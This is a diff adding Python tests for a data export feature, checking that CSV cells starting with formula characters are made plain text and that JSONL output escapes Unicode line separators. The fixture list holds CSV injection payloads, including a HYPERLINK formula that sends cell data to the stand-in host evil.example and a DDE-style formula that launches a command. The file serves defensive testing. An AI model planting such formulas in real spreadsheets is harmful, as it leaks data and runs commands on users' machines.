@@ -219,3 +219,48 @@ def test_export_command_refuses_bad_filters_and_writes_nothing(tmp_path, filters
 def test_the_schema_file_is_served_for_tools():
     response = APIClient().get("/api/v1/export/schema/")
     assert response.status_code == 200 and response.json()["$id"] == SCHEMA["$id"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "\tleading tab",
+    "\rleading return",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_plain_text(reviewer):
+    # OWASP's CSV injection advice: a leading apostrophe makes the cell text in Excel,
+    # LibreOffice and Google Sheets. JSON formats keep the values exactly.
+    document = DocumentFactory()
+    for number, formula in enumerate(FORMULAS):
+        source = SourceFactory(name=f"{formula} #{number}", kind=SourceKind.UNNAMED)
+        ClaimFactory(
+            document=document,
+            author=reviewer,
+            start=number,
+            note=formula,
+            status=ClaimStatus.APPROVED,
+            chain=[document.publisher, source],
+        )
+    rows = list(csv.DictReader(io.StringIO(export(reviewer, format="csv")[1])))
+    assert sorted(row["note"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+        assert row["origin"].startswith("'") and row["start"].isdigit()
+    notes = {json.loads(line)["note"] for line in export(reviewer, format="jsonl")[1].splitlines()}
+    assert notes == set(FORMULAS)
+
+
+def test_jsonl_escapes_line_separators_so_every_line_reader_sees_one_record_a_line(reviewer):
+    document = DocumentFactory()
+    tricky = "one\u2028two\u2029three\x85four"
+    ClaimFactory(document=document, author=reviewer, note=tricky, status=ClaimStatus.APPROVED)
+    ClaimFactory(document=document, author=reviewer, start=3, status=ClaimStatus.APPROVED)
+    body = export(reviewer, format="jsonl")[1]
+    lines = body.splitlines()  # splits at U+2028, U+2029 and U+0085 too
+    assert len(lines) == 2
+    assert {json.loads(line)["note"] for line in lines} == {tricky, ""}
